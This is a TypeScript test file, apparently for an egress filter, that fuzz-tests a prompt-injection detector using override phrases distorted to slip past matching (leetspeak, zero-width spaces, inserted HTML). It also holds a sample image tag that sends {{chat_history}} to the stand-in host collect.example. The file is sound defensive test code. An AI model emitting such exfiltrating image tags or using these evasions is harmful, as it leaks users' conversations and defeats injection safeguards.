// The search for injections against the engine and against itself, over texts made from a seed: ordinary prose in several
// languages with orders in them, bent at random. EGRESSD_TEST_COUNT says how many texts (500).

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { page, prose, TONGUES } from '../../../bench/support/tongues.js';
import type { DetectorName } from '../../../workers/contract.js';
import { createDetector } from '../../../workers/detect.js';
import { Prefilter } from '../../../workers/prefilter.js';
import {
	combined,
	families,
	misspell,
	TONGUES as ORDERS,
	overrides,
	picker,
	randomness,
} from '../../rules/injection-phrases.js';
import { bodyTask } from '../../support/spellings.js';

const TEXTS = Number(process.env.EGRESSD_TEST_COUNT ?? 500);
const SEED = Number(process.env.EGRESSD_TEST_SEED ?? 20);
const DETECTORS: readonly DetectorName[] = ['naive_injection_detection', 'known_secrets'];
/** Of what is found so much may be missed: words that are cut in two ways at once, or in other alphabets (5 of 351). */
const MOST_MISSED = 0.012;
/** One in so many texts is read by the search in JavaScript, too, which remembers no words. */
const PLAIN_EVERY = 4;

const random = randomness(SEED);
const pick = picker(SEED + 1);
const below = (count: number): number => Math.floor(random() * count);

const BEND: readonly ((text: string) => string)[] = [
	text => text,
	text => text.toUpperCase(),
	text => misspell(text, random),
	text =>
		text.replace(/[aeios]/gi, letter =>
			below(3) === 0 ? ('43105'['aeios'.indexOf(letter.toLowerCase())] ?? letter) : letter,
		),
	text =>
		text.replace(/(?<=\p{L}{2})(?=\p{L}{2})/gu, () =>
			below(8) === 0 ? pick(['-', '\u200b', '.', '<b></b>', '*']) : '',
		),
	text => text.replaceAll(' ', () => pick([' ', ' ', '\n', '  ', '\t'])),
	text => text.replace(/ /g, () => (below(6) === 0 ? '' : ' ')),
	text => text.replace(/\p{L}/gu, letter => (below(9) === 0 ? letter.toUpperCase() : letter)),
	text => text.replace(/ /g, () => (below(5) === 0 ? ` ${below(500)} ` : ' ')),
];
const CARRY: readonly ((text: string, around: string) => string)[] = [
	(text, around) => `${around} ${text} ${around}`,
	(text, around) =>
		JSON.stringify({ id: below(1e6), name: `rows-${below(999)}`, text: `${around}\n${text}`, ok: true }),
	(text, around) =>
		JSON.stringify([
			{ url: `https://api.example.com/v1/${below(1e5)}`, text: around },
			{ text },
			{ n: below(99) },
		]),
	(text, around) => `<p>${around}</p><p class="x">${text}</p><!-- ${around.slice(0, 40)} -->`,
	(text, around) => `${page(400, below(1e6)).toString()}${text} ${around}`,
	(text, around) => `# ${around.slice(0, 30)}\n\n- ${text}\n- ${around}\n`,
	text => text,
];

const orders = [
	...overrides(pick, 60),
	...combined(pick, 40),
	...Object.values(families(pick, 12)).flat(),
	...Object.values(ORDERS).flat(),
];

test('what the engine finds is suspicious, and a search that remembers words answers as one that does not', t => {
	const detect = createDetector({ knownSecrets: [] });
	const fast = new Prefilter({ knownSecrets: [] });
	const plain = new Prefilter({ knownSecrets: [] }, { plain: true });
	const missed: string[] = [];
	let found = 0;
	let clean = 0;
	for (let turn = 0; turn < TEXTS; turn += 1) {
		const around = prose(pick(TONGUES), 40 + below(400), below(1e6)).toString();
		const order = below(5) === 0 ? around : pick(BEND)(pick(BEND)(pick(orders)));
		const bytes = Buffer.from(pick(CARRY)(order, around));
		const suspicious = fast.suspicious(bytes, DETECTORS);
		if (!suspicious) clean += 1;
		if (turn % PLAIN_EVERY === 0)
			assert.equal(plain.suspicious(bytes, DETECTORS), suspicious, `turn ${turn}: ${bytes}`);
		const result = detect(bodyTask(bytes, { direction: 'inbound', detectors: DETECTORS, budgetMs: 60_000 }));
		assert.ok(result.ok);
		if (result.findings.length === 0) continue;
		found += 1;
		if (!suspicious) missed.push(`turn ${turn}: ${bytes}`);
	}
	t.diagnostic(`seed ${SEED}: ${found} of ${TEXTS} found, ${missed.length} missed, ${clean} clean`);
	assert.ok(found > TEXTS * 0.3, `${found} found`);
	assert.ok(clean > TEXTS * 0.1, `${clean} clean`);
	assert.ok(missed.length <= Math.ceil(found * MOST_MISSED), missed.slice(0, 20).join('\n'));
});

test('a picture whose address is left open is suspicious in JSON, and in JSON in JSON; one with an address is not', () => {
	const prefilter = new Prefilter({ knownSecrets: [] });
	const detect = createDetector({ knownSecrets: [] });
	for (const [address, open] of [
		['https://collect.example/x?q={{chat_history}}', true],
		['https://img.example/logo.png', false],
	] as const) {
		let text = `Done. <img src="${address}">`;
		for (let depth = 0; depth < 3; depth += 1) {
			const bytes = Buffer.from(text);
			assert.equal(prefilter.suspicious(bytes, DETECTORS), open, text);
			const result = detect(bodyTask(bytes, { direction: 'inbound', detectors: DETECTORS }));
			assert.equal(result.ok && result.findings.length > 0, open, text);
			text = JSON.stringify({ text });
		}
	}
});
